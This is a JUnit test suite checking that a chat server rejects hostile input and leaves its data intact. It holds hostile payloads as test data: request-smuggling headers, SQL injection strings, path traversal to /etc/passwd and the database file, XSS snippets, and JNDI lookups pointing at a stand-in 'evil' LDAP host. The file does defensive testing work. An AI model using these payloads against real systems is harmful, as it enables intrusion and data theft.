package dev.jchat.reliability;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import dev.jchat.ChatServer;
import dev.jchat.testing.ChatServerExtension;
import dev.jchat.testing.JdkSocket;
import dev.jchat.testing.RawHttp;
import dev.jchat.testing.Rest;
import dev.jchat.testing.TestJson;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Bad input never hurts: malformed HTTP, bad JSON, wrong JSON types and hostile ids
 * (injection-looking strings, path traversal) get a 4xx (or the 5xx HTTP itself prescribes) with
 * the contract's error shape; the server keeps serving and the stored data is exactly what it was.
 */
final class HostileInputTest {
  @TempDir static Path dir;
  static ChatServer server;
  static Rest api;
  static String token;
  static String before;

  @BeforeAll
  static void start() {
    server = ChatServerExtension.start(dir.resolve("chat.db"), b -> b);
    api = new Rest(server.port());
    token = api.signUp("owner", "owner-password");
    api.registered("other", "other-password");
    assertEquals(
        201,
        api.call("POST", "/api/rooms", "{\"roomId\":\"secret\",\"private\":true}", token).status());
    try (JdkSocket s = JdkSocket.signIn(server.port(), token)) {
      s.join("general");
      for (int i = 0; i < 5; i++) {
        s.sendText("general", "message " + i, "m" + i);
        s.recorder().awaitType("ack");
      }
    }
    before = snapshot();
  }

  @AfterEach
  void serverStillServesAndNothingChanged() {
    assertEquals(200, api.call("GET", "/api/health", null, null).status());
    assertEquals(before, snapshot(), "stored data must be untouched");
  }

  @AfterAll
  static void stop() {
    server.close();
  }

  /** Users (by logging in), rooms and their members, and every stored message. */
  private static String snapshot() {
    StringBuilder s = new StringBuilder();
    for (String user : List.of("owner", "other")) {
      assertEquals(
          201,
          api.call(
                  "POST",
                  "/api/sessions",
                  TestJson.object("userId", user, "password", user + "-password"),
                  null)
              .status());
    }
    JsonNode rooms = api.call("GET", "/api/rooms", null, token).json().get("rooms");
    for (JsonNode r : rooms) {
      String id = r.get("roomId").asText();
      JsonNode described = api.call("GET", "/api/rooms/" + Rest.encode(id), null, token).json();
      s.append(id)
          .append(' ')
          .append(r.get("name"))
          .append(' ')
          .append(r.get("private"))
          .append(' ')
          .append(described.get("memberIds"))
          .append(' ')
          .append(r.get("lastSeq"))
          .append('\n');
      for (JsonNode m : api.history(token, id)) {
        s.append("  ").append(m).append('\n');
      }
    }
    return s.toString();
  }

  private static void assertError(RawHttp.Response r, int status, String code) {
    assertEquals(status, r.status(), r.head());
    assertEquals(code, r.errorCode());
  }

  private static void assertClientError(Rest.Response r) {
    assertTrue(r.status() >= 400 && r.status() < 500, r.status() + " " + r.body());
    assertTrue(r.json() != null && r.json().path("error").path("code").isTextual(), r.body());
    assertTrue(r.json().path("error").path("message").isTextual(), r.body());
  }

  // ---- malformed HTTP ----

  @ParameterizedTest
  @ValueSource(
      strings = {
        "HELLO\r\n\r\n",
        "GET\r\n\r\n",
        "GET /api/health\r\n\r\n",
        "GET  /api/health HTTP/1.1\r\nHost: x\r\n\r\n",
        "GET /api/health HTTP/1.1\r\n\r\n",
        "GET /api/health HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
        "GET /api/health HTTP/1.1\r\nHost: x\r\nNo colon here\r\n\r\n",
        "GET /api/health HTTP/1.1\r\nHost: x\r\nX-A: 1\r\n folded\r\n\r\n",
        "GET /api/health HTTP/1.1\r\nHost: x\r\nX-A : 1\r\n\r\n",
        "GET /api/health HTTP/1.1\r\nHost: x\r\nX-A: a\u0000b\r\n\r\n",
        "GET /api/he\u0001alth HTTP/1.1\r\nHost: x\r\n\r\n",
        "GET /api/%zz HTTP/1.1\r\nHost: x\r\n\r\n",
        "GET /api/health#frag HTTP/1.1\r\nHost: x\r\n\r\n",
        "GET * HTTP/1.1\r\nHost: x\r\n\r\n",
        "GET /api/health http/1.1\r\nHost: x\r\n\r\n",
        "POST /api/users HTTP/1.1\r\nHost: x\r\nContent-Length: abc\r\n\r\n",
        "POST /api/users HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
        "POST /api/users HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello!",
        "POST /api/users HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "POST /api/users HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
        "POST /api/users HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\n",
        "POST /api/users HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
      })
  void malformedRequestIs400AndClosesTheConnection(String request) {
    try (RawHttp http = RawHttp.connect(server.port())) {
      RawHttp.Response r = http.send(request.getBytes(StandardCharsets.ISO_8859_1));
      assertError(r, 400, "bad_request");
      http.assertClosedByServer();
    }
  }

  @Test
  void unsupportedVersionAndCodingGetTheirOwnStatusWithTheErrorShape() {
    assertError(
        RawHttp.exchange(server.port(), "GET /api/health HTTP/2.0\r\nHost: x\r\n\r\n"),
        505,
        "bad_request");
    assertError(
        RawHttp.exchange(
            server.port(),
            "POST /api/users HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: gzip\r\n\r\n"),
        501,
        "bad_request");
  }

  @Test
  void randomBytesNeverGetAnythingButAnErrorResponse() {
    Random random = new Random(4242);
    for (int i = 0; i < 200; i++) {
      byte[] garbage = new byte[1 + random.nextInt(300)];
      random.nextBytes(garbage);
      ByteArrayOutputStream request = new ByteArrayOutputStream();
      request.writeBytes(garbage);
      request.writeBytes("\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
      RawHttp.Response r = RawHttp.exchange(server.port(), request.toByteArray());
      assertTrue(r.status() >= 400 && r.status() < 600, "case " + i + ": " + r.head());
      r.errorCode();
    }
  }

  // ---- bad JSON and wrong types ----

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "not json",
        "{",
        "}",
        "[]",
        "null",
        "123",
        "\"a string\"",
        "{} trailing",
        "{\"userId\":\"a\",}",
        "{\"userId\":123,\"password\":\"long-enough\"}",
        "{\"userId\":[\"x\"],\"password\":\"long-enough\"}",
        "{\"userId\":\"typed\",\"password\":true}",
        "{\"userId\":\"typed\",\"password\":12345678}",
        "{\"userId\":\"typed\",\"password\":\"long-enough\",\"name\":{\"a\":1}}",
        "{\"userId\":\"typed\",\"password\":\"long-enough\",\"email\":[]}",
        "{\"userId\":null,\"password\":\"long-enough\"}",
        "{\"userId\":\"typed\",\"password\":\"short\"}",
        "{\"userId\":\"typed\",\"password\":\"long-enough\",\"email\":\"no-at-sign\"}",
        "{\"userId\":\"typed\",\"password\":\"long-enough\",\"x\":123456789012345678901234567890123456789}",
      })
  void badRegistrationBodiesAre400(String body) {
    Rest.Response r = api.call("POST", "/api/users", body, null);
    assertEquals(400, r.status(), body + " -> " + r.body());
    assertEquals("bad_request", r.errorCode());
  }

  @Test
  void deeplyNestedJsonIs400() {
    String deep =
        "{\"userId\":\"deep\",\"password\":\"long-enough\",\"x\":"
            + "[".repeat(100_000)
            + "]".repeat(100_000)
            + "}";
    Rest.Response r = api.call("POST", "/api/users", deep, null);
    assertEquals(400, r.status(), r.body());
  }

  @Test
  void bodyThatIsNotUtf8Is400() {
    byte[] prefix = "{\"userId\":\"bytes\",\"password\":\"".getBytes(StandardCharsets.US_ASCII);
    byte[] suffix = "\"}".getBytes(StandardCharsets.US_ASCII);
    ByteArrayOutputStream body = new ByteArrayOutputStream();
    body.writeBytes(prefix);
    body.writeBytes(
        new byte[] {(byte) 0xC3, 0x28, (byte) 0xFF, (byte) 0xFE, 0x41, 0x41, 0x41, 0x41, 0x41});
    body.writeBytes(suffix);
    ByteArrayOutputStream request = new ByteArrayOutputStream();
    request.writeBytes(
        ("POST /api/users HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: "
                + body.size()
                + "\r\n\r\n")
            .getBytes(StandardCharsets.US_ASCII));
    request.writeBytes(body.toByteArray());
    assertError(RawHttp.exchange(server.port(), request.toByteArray()), 400, "bad_request");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "{\"roomId\":\"typed\",\"private\":\"yes\"}",
        "{\"roomId\":\"typed\",\"private\":1}",
        "{\"roomId\":\"typed\",\"participants\":\"other\"}",
        "{\"roomId\":\"typed\",\"participants\":[1,2]}",
        "{\"roomId\":\"typed\",\"participants\":[\"../owner\"]}",
        "{\"roomId\":42}",
        "{\"roomId\":\"typed\",\"name\":[\"n\"]}",
      })
  void badRoomBodiesAre400(String body) {
    Rest.Response r = api.call("POST", "/api/rooms", body, token);
    assertEquals(400, r.status(), body + " -> " + r.body());
    assertEquals("bad_request", r.errorCode());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "before=abc",
        "after=1.5",
        "limit=0",
        "limit=201",
        "limit=-1",
        "after=-5",
        "before=-1",
        "before=99999999999999999999",
        "limit=1e2",
        "before=1%20OR%201=1",
        "limit=%00",
      })
  void badHistoryQueriesAre400(String query) {
    Rest.Response r = api.call("GET", "/api/rooms/general/messages?" + query, null, token);
    assertEquals(400, r.status(), query + " -> " + r.body());
    assertEquals("bad_request", r.errorCode());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "Bearer",
        "Bearer ",
        "Basic b3duZXI6b3duZXI=",
        "Bearer ' OR '1'='1",
        "Bearer ../../etc/passwd"
      })
  void badAuthorizationIs401(String header) {
    String request =
        "GET /api/rooms HTTP/1.1\r\nHost: x\r\n"
            + (header.isEmpty() ? "" : "Authorization: " + header + "\r\n")
            + "\r\n";
    assertError(RawHttp.exchange(server.port(), request), 401, "unauthorized");
  }

  // ---- hostile ids ----

  @ParameterizedTest
  @ValueSource(
      strings = {
        "'; DROP TABLE users; --",
        "owner' --",
        "owner\" OR \"1\"=\"1",
        "../../etc/passwd",
        "..\\..\\windows",
        "<script>alert(1)</script>",
        "owner\u0000",
        "owner\n",
        "own er",
        "",
        "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
        "\u00e9l\u00e8ve",
        "%27%20OR%201%3D1",
        "${jndi:ldap://x/a}",
      })
  void hostileUserIdsAreRefused(String userId) {
    Rest.Response r =
        api.call(
            "POST",
            "/api/users",
            TestJson.MAPPER
                .createObjectNode()
                .put("userId", userId)
                .put("password", "long-enough")
                .toString(),
            null);
    assertEquals(400, r.status(), r.body());
    assertEquals("bad_request", r.errorCode());
    Rest.Response login =
        api.call(
            "POST",
            "/api/sessions",
            TestJson.object("userId", userId, "password", "owner-password"),
            null);
    assertClientError(login);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "general'; DROP TABLE messages; --",
        "general/../secret",
        "../secret",
        "secret%00",
        " general",
        "general ",
        "<img src=x onerror=alert(1)>",
        "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
        "gen\teral",
      })
  void hostileRoomIdsAreRefused(String roomId) {
    Rest.Response r =
        api.call(
            "POST",
            "/api/rooms",
            TestJson.MAPPER.createObjectNode().put("roomId", roomId).toString(),
            token);
    assertEquals(400, r.status(), r.body());
    assertEquals("bad_request", r.errorCode());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/api/rooms/general'%3B%20DROP%20TABLE%20rooms%3B%20--/messages",
        "/api/rooms/general%2F..%2Fsecret/messages",
        "/api/rooms/%2e%2e%2fsecret",
        "/api/rooms/..%2F..%2F..%2Fetc%2Fpasswd",
        "/api/rooms/general%00/messages",
        "/api/rooms/general/members/'%20OR%201%3D1",
        "/api/rooms/general/members/..%2F..%2Fowner",
        "/api/users/../sessions",
        "/api/../api/rooms/secret",
      })
  void hostilePathsAre4xxAndRevealNothing(String path) {
    RawHttp.Response r =
        RawHttp.exchange(
            server.port(),
            "GET "
                + path
                + " HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer "
                + token
                + "\r\nConnection: close\r\n\r\n");
    assertTrue(r.status() >= 400 && r.status() < 500, path + " -> " + r.head());
    r.errorCode();
    assertFalse(
        new String(r.body(), StandardCharsets.UTF_8).contains("message 0"), "no history leaked");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/../../../../etc/passwd",
        "/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "/..%2f..%2f..%2fetc%2fpasswd",
        "/static/../../pom.xml",
        "//etc/passwd",
        "/index.html/../../../../etc/passwd",
        "/.git/config",
        "/chat.db",
        "/%2e%2e%5c%2e%2e%5cpom.xml",
        "/api/../../chat.db",
        "http://localhost/../../etc/passwd",
      })
  void staticPathTraversalFindsNothing(String target) {
    RawHttp.Response r =
        RawHttp.exchange(
            server.port(), "GET " + target + " HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
    assertTrue(r.status() == 404 || r.status() == 400, target + " -> " + r.head());
    r.errorCode();
    String body = new String(r.body(), StandardCharsets.UTF_8);
    assertFalse(
        body.contains("root:") || body.contains("<project") || body.contains("SQLite"), body);
  }

  // ---- the chat socket ----

  @Test
  void hostileSocketMessagesAreRecoverableErrors() {
    try (JdkSocket s = JdkSocket.signIn(server.port(), token)) {
      List<String> bad =
          new ArrayList<>(
              List.of(
                  "not json",
                  "[]",
                  "\"str\"",
                  "1e400",
                  "null",
                  "{}",
                  "{\"type\":null}",
                  "{\"type\":5}",
                  "{\"type\":[\"send\"]}",
                  "{\"type\":\"bogus\"}",
                  "{\"type\":\"join\"}",
                  "{\"type\":\"join\",\"room\":123}",
                  "{\"type\":\"join\",\"room\":\"general\",\"since\":\"5\"}",
                  "{\"type\":\"join\",\"room\":\"general\",\"since\":1.5}",
                  "{\"type\":\"join\",\"room\":\"general\",\"since\":-1}",
                  "{\"type\":\"join\",\"room\":\"secret' OR '1'='1\"}",
                  "{\"type\":\"join\",\"room\":\"../secret\"}",
                  "{\"type\":\"send\",\"room\":\"general\",\"text\":{\"a\":1}}",
                  "{\"type\":\"send\",\"room\":\"general\",\"text\":\"x\",\"ref\":\""
                      + "r".repeat(65)
                      + "\"}",
                  "{\"type\":\"send\",\"room\":\"general' --\",\"text\":\"x\"}",
                  "{\"type\":\"history\",\"room\":\"general\",\"limit\":\"5\"}",
                  "{\"type\":\"history\",\"room\":\"general\",\"limit\":100000}",
                  "{\"type\":\"history\",\"room\":\"general\",\"before\":1e99}",
                  "{\"type\":\"history\",\"room\":\"secret%00\"}",
                  "{\"type\":\"leave\",\"room\":\"general\"}",
                  "{\"type\":\"hello\",\"token\":\"again\"}",
                  "{\"type\":\"rooms\"" + ",\"x\":[".repeat(1000) + "]".repeat(1000) + "}"));
      for (String message : bad) {
        s.sendRaw(message);
        JsonNode reply =
            s.recorder()
                .await(
                    f -> !f.path("type").asText().equals("presence"), "the answer, not a presence");
        assertEquals("error", reply.get("type").asText(), message + " -> " + reply);
        assertTrue(
            List.of("bad_request", "not_found").contains(reply.get("code").asText()),
            message + " -> " + reply);
      }
      s.sendRaw("{\"type\":\"rooms\"}");
      assertEquals("rooms", s.recorder().awaitType("rooms").get("type").asText());
      assertFalse(s.recorder().ended(), "recoverable errors leave the socket open");
    }
  }

  @Test
  void loneSurrogatesAreRefusedBecauseTheyCannotBeStoredAsDelivered() {
    String author = api.signUp("escaper", "escaper-password");
    try (JdkSocket s = JdkSocket.signIn(server.port(), author)) {
      s.join("general");
      for (String escaped : List.of("a\\ud800b", "a\\udc00b", "\\udbff", "\\ude00\\ud83d")) {
        s.sendRaw(
            "{\"type\":\"send\",\"room\":\"general\",\"text\":\"" + escaped + "\",\"ref\":\"r\"}");
        JsonNode reply =
            s.recorder()
                .await(
                    f -> !f.path("type").asText().equals("presence"), "the answer, not a presence");
        assertEquals("error", reply.get("type").asText(), escaped + " -> " + reply);
        assertEquals("bad_request", reply.get("code").asText());
      }
      s.sendRaw("{\"type\":\"send\",\"room\":\"general\",\"text\":\"fine\",\"ref\":\"\\ud800\"}");
      assertEquals("bad_request", s.recorder().awaitType("error").get("code").asText());
    }
    assertEquals(
        400,
        api.call("POST", "/api/rooms", "{\"roomId\":\"named\",\"name\":\"a\\ud800\"}", author)
            .status());
    assertEquals(
        400,
        api.call(
                "POST",
                "/api/users",
                "{\"userId\":\"named\",\"password\":\"long-enough\",\"name\":\"\\udc00\"}",
                null)
            .status());
    before = snapshot(); // escaper joined general
  }

  @Test
  void nulIsRefusedAndPairedSurrogatesAreStoredAsDelivered() {
    String author = api.signUp("nul", "nul-password");
    api.call("POST", "/api/rooms", "{\"roomId\":\"escapes\"}", author);
    try (JdkSocket s = JdkSocket.signIn(server.port(), author)) {
      s.join("escapes");
      // NUL: PostgreSQL's text cannot hold it, so neither store takes it
      s.sendRaw(
          "{\"type\":\"send\",\"room\":\"escapes\",\"text\":\"x\\u0000y\",\"ref\":\"nul-1\"}");
      assertEquals("nul-1", s.recorder().awaitError("bad_request").path("ref").asText());
      s.sendRaw("{\"type\":\"send\",\"room\":\"escapes\",\"text\":\"x \\ud83d\\ude00\"}");
      JsonNode delivered = s.recorder().awaitType("message");
      assertEquals("x \ud83d\ude00", delivered.get("text").asText());
      assertEquals(1, delivered.get("seq").asLong(), "the refused message took no seq");
      assertEquals(
          delivered.get("text").asText(),
          api.history(author, "escapes").get(0).get("text").asText());
    }
    assertEquals(204, api.call("DELETE", "/api/rooms/escapes/members/nul", null, author).status());
    before = snapshot();
  }

  @Test
  void injectionLookingTextIsStoredAndReturnedVerbatim() {
    String author = api.signUp("poet", "poet-password");
    api.call("POST", "/api/rooms", "{\"roomId\":\"verbatim\"}", author);
    String[] texts = {
      "'); DROP TABLE messages; --",
      "\" OR 1=1 --",
      "<script>alert('x')</script>",
      "${jndi:ldap://evil/a}",
      "%s%s%s%n",
      "\u202eevil\u202c",
      "line\nbreak\ttab",
      "emoji \ud83d\ude00 and CJK \u4e2d\u6587",
      "back\\slash \"quotes\"",
    };
    try (JdkSocket s = JdkSocket.signIn(server.port(), author)) {
      s.join("verbatim");
      for (String t : texts) {
        s.sendText("verbatim", t, null);
        assertEquals(
            "ack",
            s.recorder()
                .await(f -> !f.path("type").asText().equals("message"), "the ack, not a message")
                .get("type")
                .asText());
      }
    }
    List<JsonNode> history = api.history(author, "verbatim");
    assertEquals(texts.length, history.size());
    for (int i = 0; i < texts.length; i++) {
      assertEquals(texts[i].strip(), history.get(i).get("text").asText());
    }
    assertEquals(
        204, api.call("DELETE", "/api/rooms/verbatim/members/poet", null, author).status());
    // leave this test's additions out of the snapshot comparison
    before = snapshot();
  }
}
